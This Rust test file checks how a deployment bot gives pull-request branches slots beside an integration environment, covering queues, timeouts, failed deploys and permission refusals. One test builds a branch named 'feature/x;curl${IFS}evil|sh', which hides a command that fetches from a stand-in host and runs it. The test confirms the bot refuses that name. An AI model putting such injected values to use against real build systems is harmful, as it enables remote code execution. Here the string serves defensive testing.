//! Branches that are deployed beside an environment: who has a place, who waits, and how places are given on.

use crate::rollback::towpath;
use crate::shop::{merge, topic};
use crate::stage::Stage;
use serde_json::json;
use towpath_sandbox::{DeploymentHandle, PullHandle};

pub(crate) const CART: &str = "integration/feature/cart";
pub(crate) const LIST: &str = "integration/feature/list";

/// A shop whose integration somebody deploys.
pub(crate) async fn set() -> Stage {
    let stage = Stage::set().await;
    stage.merged_topic("feature/one").await;
    stage.carried_out("integration").await;
    stage
}

pub(crate) async fn opened(stage: &Stage, name: &str) -> PullHandle {
    topic(&stage.store, name, "integration").await;
    let pull = stage.store.open_pull(name).into("integration").by("ana").await.unwrap();
    stage.check(&pull).await.passes();
    pull
}

pub(crate) async fn answered(stage: &Stage, pull: &PullHandle, (login, text): (&str, &str), words: &[&str]) {
    let comment = stage.says(pull, login, text).await;
    let reply = stage.reply(pull, &comment).await;
    for it in words {
        assert!(reply.contains(it), "{it:?} is not in:\n{reply}");
    }
}

/// Whether the comment about its place says all of this.
pub(crate) async fn told(stage: &Stage, pull: &PullHandle, words: &[&str]) {
    let comment = stage.active_comment(pull).await;
    for it in words {
        assert!(comment.contains(it), "{it:?} is not in:\n{comment}");
    }
}

fn last(deployment: &DeploymentHandle) -> String {
    deployment.statuses().pop().map(|it| it.state).unwrap_or_default()
}

#[tokio::test]
async fn a_branch_with_a_place_is_deployed_at_each_push_and_stays_apart_from_its_base() {
    let stage = set().await;
    let pull = opened(&stage, "feature/cart").await;
    let done = ["**Done**", "feature/cart is active: it is deployed to integration/feature/cart until "];
    answered(&stage, &pull, ("ana", "/activate --until 3d"), &done).await;
    let first = stage.store.tip("feature/cart").unwrap();
    let made = stage.deployments(CART).await;
    assert_eq!(made.len(), 1);
    assert_eq!(made[0].sha(), first);
    assert_eq!(made[0].payload()["environment"], CART);
    assert_eq!(made[0].payload()["pull_requests"], json!([pull.number()]));
    stage.carried_out(CART).await;
    assert_eq!(stage.active_comment(&pull).await, "", "the reply has said it");

    stage.store.commit_on("feature/cart").file("more.txt", "more\n").by("ana").await.unwrap();
    stage.check(&pull).await.passes();
    let made = stage.deployments(CART).await;
    assert_eq!(made.len(), 2);
    assert_eq!(made[1].sha(), stage.store.tip("feature/cart").unwrap());
    assert_eq!(made[1].payload()["previous_sha"], json!(first));
    stage.carried_out(CART).await;
    // Pushed back: what the branch has is what is wanted.
    stage.later();
    stage.store.move_branch("feature/cart").to(&first).by("ana").await.unwrap();
    stage.check(&pull).await.passes();
    assert_eq!(stage.deployments(CART).await.last().unwrap().sha(), first);
    stage.carried_out(CART).await;

    assert_eq!(stage.deployments("integration").await.len(), 1, "nothing of it is integration's");
    let where_is = ["Beside it is `integration/feature/cart`: `feature/cart` of #", "asked for by `ana`"];
    answered(&stage, &pull, ("ben", "/where integration"), &where_is).await;
    stage.end().await;
}

#[tokio::test]
async fn who_finds_the_place_taken_waits_until_the_data_may_go() {
    let stage = set().await;
    let (cart, list) = (opened(&stage, "feature/cart").await, opened(&stage, "feature/list").await);
    answered(&stage, &cart, ("ana", "/activate"), &["**Done**", "feature/cart is active"]).await;
    stage.carried_out(CART).await;
    let queued = [
        "**Done**",
        "feature/list is number 1 of the queue for a place beside integration",
        "asked for by ana",
    ];
    answered(&stage, &list, ("ben", "/activate"), &queued).await;
    answered(&stage, &list, ("ben", "/activate"), &queued).await;
    let waits = "Number 1 of the queue for a place beside integration";
    stage.check(&list).await.is("success", waits).says("feature/cart");
    let active = towpath(&stage, &["active", "--repository", "acme/store"]).await;
    assert!(
        active
            .words()
            .starts_with("integration: 1 of 1 places taken.\n  Beside it is integration/feature/cart: "),
        "{}",
        active.words()
    );
    assert!(active.words().contains("Number 1 of the queue is feature/list"), "{}", active.words());
    let not_yours = ["**Refused**", "The place is there for ana"];
    answered(&stage, &cart, ("ben", "/deactivate --destroy"), &not_yours).await;
    answered(&stage, &cart, ("ben", "/deactivate"), &["**Done**", "is to be freed", "/deactivate --destroy"])
        .await;
    told(&stage, &cart, &["is to be freed since", "`ben` has given it up", "1 pull request waits"]).await;
    stage.check(&list).await.is("success", waits);
    assert!(stage.deployments(LIST).await.is_empty(), "nobody has let the data go");

    // It stays where it is: nothing more is deployed there.
    stage.store.commit_on("feature/cart").file("more.txt", "more\n").by("ana").await.unwrap();
    stage.check(&cart).await.passes();
    assert_eq!(stage.deployments(CART).await.len(), 1);
    let free = ["**Done**", "the place of integration/feature/cart is free", "It goes to #"];
    answered(&stage, &cart, ("ana", "/deactivate --destroy"), &free).await;
    let made = stage.deployments(LIST).await;
    assert_eq!(made.len(), 1);
    assert_eq!(made[0].sha(), stage.store.tip("feature/list").unwrap());
    assert_eq!(last(&stage.deployments(CART).await[0]), "inactive");
    stage.check(&list).await.passes();
    told(&stage, &list, &["Its turn has come", "deploy 1"]).await;
    stage.carried_out(LIST).await;
    told(&stage, &list, &["is live after"]).await;
    told(&stage, &cart, &["no place beside `integration` any more", "/activate"]).await;
    stage.end().await;
}

#[tokio::test]
async fn what_is_merged_makes_room_once_a_maintainer_says_so() {
    let stage = set().await;
    let cart = opened(&stage, "feature/cart").await;
    answered(&stage, &cart, ("ana", "/activate"), &["**Done**"]).await;
    stage.carried_out(CART).await;
    let list = opened(&stage, "feature/list").await;
    answered(&stage, &list, ("ana", "/activate"), &["number 1 of the queue"]).await;
    stage.check(&list).await.is("success", "Number 1 of the queue for a place beside integration");
    merge(&cart).await.unwrap();
    stage.quiet().await;
    told(&stage, &cart, &["this pull request was merged", "`ana` or somebody with the role `maintain`"])
        .await;
    stage.check(&list).await.is("success", "Number 1 of the queue for a place beside integration");
    answered(&stage, &cart, ("rita", "/deactivate --destroy"), &["**Done**", "is free"]).await;
    told(&stage, &list, &["Its turn has come"]).await;
    told(&stage, &cart, &["no place"]).await;
    stage.check(&list).await.passes();
    assert_eq!(stage.deployments(LIST).await.len(), 1);
    // Who waits no more, and whose branch is gone, keeps nobody waiting.
    let menu = opened(&stage, "feature/menu").await;
    answered(&stage, &menu, ("ana", "/activate"), &["number 1 of the queue"]).await;
    stage.check(&menu).await.is("success", "Number 1 of the queue for a place beside integration");
    answered(&stage, &menu, ("ana", "/deactivate"), &["**Done**", "waits for no place"]).await;
    stage.check(&menu).await.passes();
    answered(&stage, &menu, ("ana", "/deactivate"), &["**Refused**", "has no place"]).await;
    stage.store.delete_branch("feature/list").by("ana").await.unwrap();
    told(&stage, &list, &["this pull request was closed"]).await;
    stage.all_is_read().await;
    stage.end().await;
}

#[tokio::test]
async fn a_fork_s_branch_and_an_odd_name_get_no_place_and_an_environment_without_places_has_none() {
    let stage = set().await;
    let fork = stage.store.fork("mallory").await.unwrap();
    topic(&fork, "feature/cart", "integration").await;
    let pull = stage.store.open_pull("mallory:feature/cart").into("integration").by("mallory").await.unwrap();
    stage.check(&pull).await.passes();
    answered(
        &stage,
        &pull,
        ("rita", "/activate"),
        &["**Refused**", "comes from a fork", "operator's secrets"],
    )
    .await;
    assert!(stage.deployments(CART).await.is_empty());
    let odd = opened(&stage, "feature/x;curl${IFS}evil|sh").await;
    answered(&stage, &odd, ("ana", "/activate"), &["**Refused**", "rename the branch"]).await;
    assert!(stage.deployments("integration/feature/x;curl${IFS}evil|sh").await.is_empty());
    let text = "version: 1\nenvironments:\n  - { name: integration, accepts: [topics] }\n  - { name: staging, accepts: [integration] }\ncopy: none\n";
    stage.configure("master", text).await;
    let own = opened(&stage, "feature/list").await;
    answered(&stage, &own, ("ana", "/activate"), &["**Refused**", "has no place for another branch"]).await;
    stage.all_is_read().await;
    stage.end().await;
}

#[tokio::test]
async fn time_ends_a_place_without_an_event_and_where_no_data_is_kept_the_next_one_has_it() {
    let mut stage = set().await;
    let text = "version: 1\nenvironments:\n  - { name: integration, accepts: [topics], active: 2, active_idle: 1d, active_keeps_data: false }\n  - { name: staging, accepts: [integration] }\ncopy: none\n";
    stage.configure("master", text).await;
    let (cart, list) = (opened(&stage, "feature/cart").await, opened(&stage, "feature/list").await);
    answered(&stage, &cart, ("ana", "/activate --until 2h"), &["**Done**"]).await;
    answered(&stage, &list, ("ben", "/activate"), &["number 1 of the queue", ", until "]).await;
    stage.check(&list).await.is("success", "Number 1 of the queue for a place beside integration");
    stage.carried_out(CART).await;
    let not_yours = ["**Refused**", "The place is there for ana: they or a maintainer give it up"];
    answered(&stage, &cart, ("ben", "/deactivate"), &not_yours).await;
    stage.check(&list).await.is("success", "Number 1 of the queue for a place beside integration");
    let menu = opened(&stage, "feature/menu").await;
    let end = chrono::DateTime::from_timestamp_millis(stage.now().0 + 3_600_000).unwrap();
    let until = format!("/activate --until {}", end.format("%Y-%m-%dT%H:%M:%SZ"));
    let queued =
        ["number 2 of the queue for a place beside integration, until 2", "whether it has had one or not"];
    answered(&stage, &menu, ("ben", &until), &queued).await;
    stage.check(&menu).await.is("success", "Number 2 of the queue for a place beside integration");
    stage.restart().await;
    stage.minutes_later(61).await;
    told(&stage, &menu, &["waits for no place beside `integration` any more", "/activate"]).await;
    stage.check(&menu).await.passes();
    stage.minutes_later(60).await;
    told(&stage, &list, &["Its turn has come"]).await;
    assert_eq!(stage.deployments(LIST).await.len(), 1);
    stage.carried_out(LIST).await;
    told(&stage, &list, &["is live after"]).await;
    stage.check(&list).await.passes();
    // Nobody pushes for a day.
    stage.minutes_later(24 * 60 + 1).await;
    told(&stage, &list, &["no place beside `integration` any more"]).await;
    assert_eq!(last(&stage.deployments(LIST).await[0]), "inactive");
    stage.all_is_read().await;
    stage.end().await;
}

#[tokio::test]
async fn of_two_in_the_same_second_one_waits_and_whatever_is_lost_each_is_deployed_once() {
    let mut stage = set().await;
    let (cart, list) = (opened(&stage, "feature/cart").await, opened(&stage, "feature/list").await);
    stage.seconds_later(5);
    stage.github.faults().rest("POST", "/repos/*/deployments").reset_after().times(1);
    let asked = [
        cart.comment("/activate").by("ana").await.unwrap(),
        list.comment("/activate").by("ben").await.unwrap(),
    ];
    stage.quiet().await;
    stage.restart().await;
    stage.github.faults().clear();
    let replies = [stage.reply(&cart, &asked[0]).await, stage.reply(&list, &asked[1]).await];
    let active = replies.iter().position(|it| it.contains("is active")).expect("one has the place");
    assert!(replies[1 - active].contains("is number 1 of the queue"), "{replies:?}");
    let (names, pulls) = ([CART, LIST], [&cart, &list]);
    stage.minutes_later(2).await;
    assert_eq!(stage.deployments(names[active]).await.len(), 1);
    assert!(stage.deployments(names[1 - active]).await.is_empty());
    stage
        .check(pulls[1 - active])
        .await
        .is("success", "Number 1 of the queue for a place beside integration");
    stage.check(pulls[active]).await.passes();
    answered(&stage, pulls[active], ("rita", "/deactivate --destroy"), &["**Done**", "It goes to #"]).await;
    told(&stage, pulls[1 - active], &["Its turn has come"]).await;
    stage.restart().await;
    assert_eq!(stage.deployments(names[1 - active]).await.len(), 1);
    told(&stage, pulls[1 - active], &["Its turn has come"]).await;
    stage.check(pulls[1 - active]).await.passes();
    stage.active_comment(pulls[active]).await;
    stage.all_is_read().await;
    stage.end().await;
}

#[tokio::test]
async fn a_deploy_that_fails_is_told_and_tried_again_and_who_goes_elsewhere_gives_the_place_up() {
    let stage = set().await;
    let cart = opened(&stage, "feature/cart").await;
    answered(&stage, &cart, ("ana", "/activate"), &["**Done**"]).await;
    let made = stage.deployments(CART).await;
    stage.later();
    made[0].status("failure").description("no disk").by("deployer").await.unwrap();
    told(&stage, &cart, &["The newest deploy there: `deploy 1: failed"]).await;
    let again = ["**Done**", "has its place beside integration", "its last deploy is tried again"];
    answered(&stage, &cart, ("ana", "/activate"), &again).await;
    assert_eq!(stage.deployments(CART).await.len(), 2);
    stage.carried_out(CART).await;
    told(&stage, &cart, &["deploy 2: ", "is live after"]).await;
    cart.retarget("staging").by("ana").await.unwrap();
    told(&stage, &cart, &["is to be freed since", "goes into another branch now"]).await;
    stage.check(&cart).await.fails();
    stage.check_named(&cart, "towpath: integration").await;
    // Also from where it goes now.
    answered(&stage, &cart, ("ana", "/deactivate --destroy"), &["**Done**", "Nobody waits for it"]).await;
    told(&stage, &cart, &["no place beside `integration` any more"]).await;
    assert_eq!(last(&stage.deployments(CART).await[1]), "inactive");
    stage.all_is_read().await;
    stage.end().await;
}
